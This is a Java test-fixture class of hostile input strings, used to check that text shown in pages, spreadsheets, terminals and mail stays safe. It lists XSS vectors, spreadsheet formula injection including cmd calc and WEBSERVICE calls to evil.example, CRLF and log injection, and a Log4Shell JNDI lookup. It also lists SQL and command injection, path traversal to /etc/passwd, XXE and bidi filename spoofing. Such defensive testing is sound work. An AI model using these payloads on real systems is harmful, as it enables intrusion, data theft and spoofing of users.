package org.waybill.walk;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * What somebody may write into a subject, a label, a name, a URL or a user agent to hurt whoever
 * reads it later: in a page, a spreadsheet, a terminal, a mail.
 */
final class HostileTexts {

  /** What a script that runs leaves behind, in {@code window}. */
  static final String TRACE = "hurt";

  private static final String RUN = "window.hurt=1";

  private static final List<String> MARKUP =
      List.of(
          "<script>RUN</script>",
          "</script><script>RUN</script>",
          "</title><script>RUN</script>",
          "</textarea><script>RUN</script>",
          "</style><script>RUN</script>",
          "--><script>RUN</script>",
          "]]><script>RUN</script>",
          "<ScRiPt>RUN</sCrIpT>",
          "<script/x>RUN</script>",
          "<script\n>RUN</script>",
          "<scr<script>ipt>RUN</scr</script>ipt>",
          "<img src=x onerror=RUN>",
          "<img src=x onerror=\"RUN\">",
          "<img/src=x/onerror=RUN>",
          "<img src=`x` onerror=RUN>",
          "<image src=x onerror=RUN>",
          "<svg onload=RUN>",
          "<svg/onload=RUN>",
          "<svg><script>RUN</script></svg>",
          "<svg><animate onbegin=RUN attributeName=x dur=1s>",
          "<svg><a xlink:href=\"javascript:RUN\"><text x=20 y=20>x</text></a></svg>",
          "<svg><foreignObject><iframe src=\"javascript:RUN\"></foreignObject></svg>",
          "<math><mi xlink:href=\"javascript:RUN\">x</mi></math>",
          "<body onload=RUN>",
          "<iframe src=\"javascript:RUN\"></iframe>",
          "<iframe srcdoc=\"<script>parent.hurt=1</script>\"></iframe>",
          "<object data=\"javascript:RUN\"></object>",
          "<embed src=\"javascript:RUN\">",
          "<a href=\"javascript:RUN\">x</a>",
          "<a href=\"java\tscript:RUN\">x</a>",
          "<a href=\"&#106;avascript:RUN\">x</a>",
          "<form action=\"javascript:RUN\"><button>x</button></form>",
          "<button formaction=\"javascript:RUN\">x</button>",
          "<input autofocus onfocus=RUN>",
          "<select autofocus onfocus=RUN>",
          "<textarea autofocus onfocus=RUN>",
          "<keygen autofocus onfocus=RUN>",
          "<details open ontoggle=RUN>",
          "<marquee onstart=RUN>",
          "<video><source onerror=RUN></video>",
          "<audio src=x onerror=RUN>",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<link rel=prefetch href=https://evil.example/x>",
          "<style>@import 'https://evil.example/x.css';</style>",
          "<style>*{background:url(https://evil.example/x)}</style>",
          "<div style=\"background:url(https://evil.example/x)\">",
          "<base href=https://evil.example/>",
          "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
          "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
          "<template><script>RUN</script></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
          "<xmp><script>RUN</script>",
          "<plaintext>",
          "<!--",
          "<![CDATA[",
          "<?xml version=\"1.0\"?><script>RUN</script>",
          "<isindex type=image src=1 onerror=RUN>",
          "<table background=\"javascript:RUN\">",
          "<img src=https://evil.example/pixel.gif>",
          "<img srcset=\"https://evil.example/x 1x\">",
          "<picture><source srcset=https://evil.example/x></picture>",
          "<portal src=https://evil.example/>",
          "<x-hurt onclick=RUN tabindex=1 autofocus>");

  private static final List<String> ATTRIBUTES =
      List.of(
          "\" onmouseover=\"RUN",
          "' onmouseover='RUN",
          "\" autofocus onfocus=\"RUN",
          "x\" onerror=RUN \"",
          "\"><script>RUN</script>",
          "'><script>RUN</script>",
          "\"/><img src=x onerror=RUN>",
          "` onmouseover=`RUN",
          "\" style=\"background:url(https://evil.example/x)",
          "\" accesskey=x onclick=\"RUN",
          "\\\" onmouseover=RUN \\\"",
          "\";RUN;//",
          "';RUN;//",
          "\\';RUN;//",
          "</option></select><script>RUN</script>",
          "&quot; onmouseover=&quot;RUN",
          "&#34;&#62;&#60;script&#62;RUN&#60;/script&#62;",
          "&lt;script&gt;RUN&lt;/script&gt;",
          "%3Cscript%3ERUN%3C/script%3E",
          "\\u003cscript\\u003eRUN\\u003c/script\\u003e");

  private static final List<String> URLS =
      List.of(
          "javascript:RUN",
          "JaVaScRiPt:RUN",
          " javascript:RUN",
          "java\nscript:RUN",
          "javascript://x%0aRUN",
          "data:text/html,<script>parent.hurt=1</script>",
          "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaHVydD0xPC9zY3JpcHQ+",
          "vbscript:msgbox(1)",
          "blob:https://evil.example/x",
          "file:///etc/passwd",
          "//evil.example/",
          "\\\\evil.example\\x",
          "/\\evil.example",
          "https:evil.example",
          "https://shop.example@evil.example/",
          "https://shop.example\\@evil.example/",
          "https://shop.example%00.evil.example/",
          "https://xn--shp-9na.example/",
          "https://[::1]/",
          "https://evil.example/?next=https://shop.example/#\"><script>RUN</script>");

  private static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "=cmd|' /C calc'!A0",
          "+cmd|' /C calc'!A0",
          "-cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
          "=IMPORTXML(\"https://evil.example/\",\"//a\")",
          "=WEBSERVICE(\"https://evil.example/\")",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          " =1+1",
          "\"=1+1",
          "',=1+1",
          "x\",=1+1,\"",
          "x\r\n=1+1",
          ";=1+1",
          "%0A=1+1",
          "+1-1",
          "-1",
          "=",
          "@");

  private static final List<String> LINES =
      List.of(
          "x\r\nSet-Cookie: waybill=1",
          "x\nLocation: https://evil.example/",
          "x\r\n\r\n<script>RUN</script>",
          "x\rX-Injected: 1",
          "x%0d%0aSet-Cookie: a=b",
          "x\u0085Set-Cookie: a=b",
          "x\u2028Set-Cookie: a=b",
          "x\u2029Set-Cookie: a=b",
          "x\u560a\u560dSet-Cookie: a=b",
          "x\nBcc: victim@example.org",
          "x\r\nContent-Type: text/html\r\n\r\n<script>RUN</script>",
          "x\r\n.\r\nMAIL FROM:<evil@example.org>",
          "x\n12:00:00.000 ERROR forged line",
          "x\r12:00:00.000 ERROR forged line",
          "\u001b[2J\u001b[1;1H",
          "\u001b]0;title\u0007",
          "\u001b[31mred",
          "\u009b31mred",
          "\b\b\b\bhidden",
          "x\u0000y",
          "x\u007fy",
          "x\u000by\u000c",
          "${jndi:ldap://evil.example/x}",
          "${env:PATH}",
          "%d{HH:mm} %msg%n",
          "{}",
          "{0} {1}",
          "%s%s%s%n",
          "#{7*7}",
          "${7*7}",
          "{{7*7}}",
          "@{7*7}",
          "<%= 7*7 %>",
          "!{RUN}");

  private static final List<String> DIRECTIONS =
      List.of(
          "invoice\u202efdp.exe",
          "\u202eabc",
          "\u202dabc",
          "\u202babc",
          "\u202aabc",
          "\u2066abc",
          "\u2067abc",
          "\u2068abc",
          "abc\u2069\u2069\u2069",
          "abc\u202c\u202c",
          "\u061cabc",
          "\u200eabc\u200f",
          "a\u200bb\u200cc\u200dd",
          "\ufeffabc",
          "a\u00adb",
          "\u2060\u2061\u2062",
          "\ufff9a\ufffab\ufffb",
          "a\u0300\u0301\u0302\u0303\u0304\u0305",
          "\u05d0\u05d1\u05d2 abc",
          "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
          "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
          "\ud83c\uddea\ud83c\uddfa",
          "\ue000\uf8ff",
          "\uffff",
          "\ufffe");

  private static final List<String> QUESTIONS =
      List.of(
          "' OR '1'='1",
          "'; DROP TABLE messages; --",
          "\" OR \"\"=\"",
          "1) UNION SELECT * FROM copies --",
          "%' ESCAPE '\\",
          "%",
          "_",
          "\\",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "/%2e%2e/%2e%2e/",
          "%00",
          "%c0%ae%c0%ae/",
          "%ff",
          "|id",
          "`id`",
          "$(id)",
          "; id",
          "&& id",
          "*)(uid=*))(|(uid=*",
          "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
          "null",
          "undefined",
          "NaN",
          "-0",
          "true",
          "__proto__",
          "constructor",
          "[object Object]",
          "");

  private HostileTexts() {}

  /** All of them, each once, the long ones last. */
  static List<String> all() {
    List<String> all = new ArrayList<>();
    Stream.of(MARKUP, ATTRIBUTES, URLS, FORMULAS, LINES, DIRECTIONS, QUESTIONS)
        .flatMap(List::stream)
        .map(text -> text.replace("RUN", RUN))
        .forEach(all::add);
    all.add("A".repeat(60_000));
    all.add("<b>".repeat(20_000));
    all.add("\u202e".repeat(10_000));
    all.add("&#".repeat(30_000));
    all.add("a ".repeat(30_000));
    return all;
  }
}
